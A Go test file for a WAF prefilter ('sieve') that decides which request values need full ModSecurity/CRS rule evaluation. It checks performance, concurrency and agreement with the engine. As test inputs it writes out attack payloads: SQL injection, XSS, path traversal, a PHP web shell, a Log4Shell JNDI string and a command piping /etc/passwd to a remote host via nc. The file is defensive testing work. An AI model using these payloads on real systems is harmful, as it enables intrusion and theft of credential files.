package sieve

import (
	"bytes"
	"context"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"sync"
	"testing"

	"weir/inspect/engine"
)

func TestHonestValuesAreHeldBack(t *testing.T) {
	s := sieveAt(1)
	for _, text := range []string{
		"", "0", "42", "true", "active", "customer_name", "Ada Lovelace", "O'Brien", "ann@example.com", "2026-11-23T18:21:00Z",
		"550e8400-e29b-41d4-a716-446655440000", "arn:aws:lambda:eu-west-1:123456789012:function:orders", "https://example.com/a/b?c=d&e=f#g",
		"image/png", "The quick brown fox jumps over the lazy dog.", "naïve café — “quoted” text…", "日本語のテキスト", "+44 20 7946 0958", "€ 12,50",
	} {
		if s.MayMatch([]byte(text)) {
			t.Errorf("%q is let through", text)
		}
	}
}

func TestAttacksAreLetThrough(t *testing.T) {
	for level := 1; level <= 4; level++ {
		s := sieveAt(level)
		for _, text := range []string{
			"1' OR '1'='1' UNION SELECT password FROM users-- ", "<script>alert(document.cookie)</script>", "; cat /etc/passwd | nc 203.0.113.5 4444",
			"../../../../etc/passwd", "http://169.254.169.254/latest/meta-data/", "<?php system($_GET['c']); ?>", "${jndi:ldap://203.0.113.5/a}",
			"%3cscript%3ealert(1)%3c/script%3e", "&lt;script&gt;alert(1)", `\u003cscript\u003ealert(1)`, "union/**/select/**/1 from users where 'a'='a'",
		} {
			if !s.MayMatch([]byte(text)) {
				t.Errorf("level %d: %q is held back", level, text)
			}
		}
	}
}

// Three characters outside ASCII are letters to case folding or lower-casing: long s, the sign for kelvin, I with a dot.
func TestForeignLettersAreLetters(t *testing.T) {
	for _, text := range []string{
		";\r BENCHmAr\u212a\t\v(__`", "1 union all \u017felect 1 from u\u017fer\u017f", "<\u017fcript>alert(1)</script>", "waitfor delay '0:0:5'--\u0130",
		"java.lang.runt\u0130me", "\u017fleep(5)", "bin/ba\u017fh -c id; benchmar\u212a(1,1)",
	} {
		found := sieveAt(1).tables.naive([]byte(text))
		if len(found) == 0 {
			t.Errorf("%q: no rule matches, so it says nothing", text)
		}
		if !sieveAt(1).MayMatch([]byte(text)) {
			t.Errorf("%q is held back, rules %v match", text, found)
		}
	}
}

// An attack is found wherever it stands in a long text, and after the sieve was busy with other texts.
func TestAttacksInLongTextAreLetThrough(t *testing.T) {
	s := sieveAt(1)
	r := rand.New(rand.NewPCG(3, 4))
	for range 50 {
		text := sentence(r, 2000)
		if s.MayMatch([]byte(text)) {
			t.Fatalf("honest text is let through: %.80q", text)
		}
		at := r.IntN(len(text))
		if !s.MayMatch([]byte(text[:at] + "<script>alert(1)</script>" + text[at:])) {
			t.Errorf("an attack at byte %d is held back", at)
		}
	}
}

// The rules of a user are in no table, so whoever writes rules about arguments gets everything sent on.
func TestUserRulesThatMayLookAtValuesLetEverythingThrough(t *testing.T) {
	for text, concerned := range map[string]bool{
		`SecRule ARGS "@rx needle" "id:1,phase:2,deny"`:                                        true,
		`SecRule args:name "@rx needle" "id:1,phase:2,deny"`:                                   true,
		`SecRule &ARGS_POST "@eq 0" "id:1,phase:2,deny"`:                                       true,
		`SecAction "id:1,phase:1,setvar:tx.arg_length=400"`:                                    true,
		`SecAction "id:1,phase:1,setvar:tx.max_num_args=10"`:                                   true,
		`SecAction "id:1,phase:1,setvar:tx.detection_paranoia_level=4"`:                        true,
		`SecAction "id:1,phase:1,setvar:tx.crs_validate_utf8_encoding=1"`:                      true,
		`SecRuleUpdateActionById 942100 "t:none,t:lowercase"`:                                  true,
		`SecRule REQUEST_HEADERS:X-Internal "@streq 1" "id:1,phase:1,deny"`:                    false,
		`SecRule REQUEST_URI "@beginsWith /admin" "id:1,phase:1,deny,ctl:ruleRemoveById=2000"`: false,
		"": false,
	} {
		s := New(1, []string{"# first", text})
		if got := s.MayMatch([]byte("hello")); got != concerned {
			t.Errorf("with %s: %v", text, got)
		}
		if !s.MayMatch([]byte("<script>alert(1)</script>")) {
			t.Errorf("with %s: an attack is held back", text)
		}
	}
}

func TestArgumentsThatRulesAskForByNameAreTold(t *testing.T) {
	if s := sieveAt(1); isNamed(s, "_method") || isNamed(s, "name") {
		t.Error("no rule asks for names at level 1")
	}
	if s := sieveAt(2); !isNamed(s, "_method") || !isNamed(s, "_METHOD") || isNamed(s, "method") {
		t.Error("at level 2, rule 920650 asks for _method")
	}
}

func TestAnUnknownLevelLetsEverythingThrough(t *testing.T) {
	for _, level := range []int{-1, 0, 5} {
		if !New(level, nil).MayMatch([]byte("hello")) {
			t.Errorf("level %d", level)
		}
	}
}

// A value is read and neither changed nor kept.
func TestTheValueIsLeftAlone(t *testing.T) {
	s := sieveAt(1)
	for _, text := range append(plain, transformed...) {
		value := []byte(text)
		s.MayMatch(value)
		if string(value) != text {
			t.Errorf("%q became %q", text, value)
		}
	}
}

// Many goroutines share a sieve. It finds the same as one alone.
func TestHammerSharedSieve(t *testing.T) {
	s := New(1, nil)
	texts := append(append(spelt(1, 23), plain...), transformed...)
	want := make([]bool, len(texts))
	for i, text := range texts {
		want[i] = sieveAt(1).MayMatch([]byte(text))
	}
	var all sync.WaitGroup
	for g := range 8 {
		all.Go(func() {
			for i := range texts {
				i = (i*7 + g*31) % len(texts)
				if got := s.MayMatch([]byte(texts[i])); got != want[i] {
					t.Errorf("%q: %v", texts[i], got)
				}
			}
		})
	}
	all.Wait()
}

// hostile are texts that are made to be expensive: near misses, and fragments of everything that is suspicious.
func hostile(size int) map[string][]byte {
	r := rand.New(rand.NewPCG(5, 6))
	fragments := []string{
		"select ", "union/**/", "<scrip", "onload", "=", "'", `"`, "${", "jndi", "../", "/etc/", "; ca", "$x", "%3c", "&#x6", `\u003`, "exec(", "eval", "--", "||",
		"like", "`", "[", "]", "{", "}", "<", "http://", "bin/", "\n", "curl", "c'a't", "\x00", "\u212a", "char(",
	}
	var soup strings.Builder
	for soup.Len() < size {
		soup.WriteString(fragments[r.IntN(len(fragments))])
	}
	noise := make([]byte, size)
	for i := range noise {
		noise[i] = byte(r.Uint32())
	}
	return map[string][]byte{
		"soup":      []byte(soup.String())[:size],
		"noise":     noise,
		"blanks":    bytes.Repeat([]byte(" "), size),
		"slashes":   bytes.Repeat([]byte("/../"), size/4),
		"percent":   bytes.Repeat([]byte("%25"), size/3),
		"quotes":    bytes.Repeat([]byte(`a'`), size/2),
		"near miss": bytes.Repeat([]byte("unio selec fro "), size/15),
		"entities":  bytes.Repeat([]byte("&#x26;"), size/6),
	}
}

// Hostile text costs a bounded number of states, and then is sent on. What that is in states is the same everywhere.
func TestHostileTextIsBounded(t *testing.T) {
	for name, text := range hostile(1 << 16) {
		s := New(4, nil)
		w := &walk{tables: s.tables}
		w.mayMatch(text, 0)
		if spent := leastEffort + effortPerByte*len(text) - w.effort.left; spent > leastEffort+effortPerByte*len(text)+1<<20 {
			t.Errorf("%s: effort %d", name, spent)
		}
	}
}

// The room that a long text takes is a few times its length, however many transformations change it.
func TestLongTextTakesLittleRoom(t *testing.T) {
	const (
		size = 2 * longValue
		most = 5  // two that a link wants to see as a whole, and what pieces take
		wide = 11 // where a byte becomes %u00ff
	)
	texts := hostile(size)
	texts["dense"] = bytes.Repeat([]byte(strings.Join(dense(20), "%41\\x41")), 200*size/longValue)[:size]
	for name, text := range texts {
		w := &walk{tables: sieveAt(4).tables, suspects: &Suspects{}}
		w.mayMatch(text, 0)
		room := cap(w.spare) + cap(w.other) + cap(w.folded)
		for _, b := range w.buffers {
			room += cap(b.next) + cap(b.last)
		}
		for _, s := range w.long.pipe.stages {
			room += cap(s.waiting) + cap(s.out)
		}
		room += cap(w.long.scan.text) + cap(w.long.carry)
		for i := range w.texts {
			room += cap(w.texts[i].room)
		}
		if room > most*size && name != "noise" || room > wide*size {
			t.Errorf("%s: %.1f times the length", name, float64(room)/size)
		}
	}
}

// What long texts are judged by is what short ones are judged by.
func TestLongTextIsTransformedAlike(t *testing.T) {
	tab := load(4)
	for at := range tab.nodes {
		for _, text := range transformed {
			w := &walk{tables: tab}
			w.begin([]byte(text))
			if short, long := string(w.exact(uint8(at))), string(w.whole(w.stepsTo(uint8(at)), 0)); short != long {
				t.Errorf("node %d of %q: %q and %q", at, text, short, long)
			}
		}
	}
}

// A value that is held back costs nothing that must be collected, once the sieve is warm.
func TestPlainValuesCostNoAllocations(t *testing.T) {
	if raceEnabled {
		return // sync.Pool drops at random under the race detector
	}
	s := sieveAt(1)
	for _, text := range []string{"active", "customer_name", "123456", "2026-11-23T18:21:00.000Z", "SKU-5F3A-12", "10.50"} {
		value := []byte(text)
		if n := testing.AllocsPerRun(200, func() { s.MayMatch(value) }); n > 0 {
			t.Errorf("%q: %v allocations", text, n)
		}
	}
}

// With the sieve in front, whole evaluations find the same rules as without it.
func TestEvaluationsAreTheSameWithTheSieveInFront(t *testing.T) {
	texts := append(mustList(t, regressions), plain...)
	s := newSpeller(29)
	rounds := 12
	if *full {
		rounds = 300
	}
	for level := 1; level <= 4; level++ {
		for range rounds {
			var every, some []engine.Value
			for n := range 12 {
				text := texts[s.IntN(len(texts))]
				v := engine.Value{Name: string(rune('a' + n)), Text: text}
				every = append(every, v)
				if sieveAt(level).MayMatch([]byte(text)) {
					some = append(some, v)
				}
			}
			want, got := found(t, level, every), found(t, level, some)
			if want != got {
				t.Errorf("level %d: %s with the sieve, %s without\nvalues %q", level, got, want, every)
			}
		}
	}
}

// found lists the rules that match, with the names of the values and the scores.
func found(t *testing.T, level int, values []engine.Value) string {
	t.Helper()
	matches, err := engineAt(t, level).Evaluate(context.Background(), nil, values, nil)
	if err != nil {
		t.Fatal(err)
	}
	return list(matches, values)
}

func list(matches []engine.Match, values []engine.Value) string {
	var lines []string
	for _, m := range matches {
		name := ""
		if m.Value >= 0 {
			name = values[m.Value].Name
		}
		lines = append(lines, fmt.Sprintf("%d %s +%d", m.Rule, name, m.Score))
	}
	slices.Sort(lines)
	return strings.Join(lines, ", ")
}

func isNamed(s *Sieve, name string) bool { return s.SuspectName(name, &Suspects{}) }
